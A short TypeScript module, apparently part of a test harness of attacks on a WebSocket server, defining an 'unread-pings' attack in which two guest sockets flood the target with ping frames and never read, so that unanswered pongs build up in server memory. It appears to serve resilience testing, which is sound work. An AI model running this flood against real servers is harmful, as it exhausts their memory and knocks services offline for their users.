// Attack: two sockets that send pings and never read, so that answers beyond the server's limits pile up in
// its memory.

import { type Attack, frame, PING, repeatFrames } from './attack.ts';

const ATTACKERS = 2;
const BLOCK = 64 * 1024;

export const unreadPings: Attack = {
  name: 'unread-pings',
  about: 'two sockets that send pings and read nothing',
  run: async (target) => {
    const bytes = repeatFrames([frame(PING, 'x'.repeat(125))], BLOCK);
    const guest = async (_: unknown, at: number) => ({ cookie: await target.guest(`Mute${at}`), bytes });
    return target.flood(await Promise.all(Array.from({ length: ATTACKERS }, guest)), 'reads nothing');
  },
};
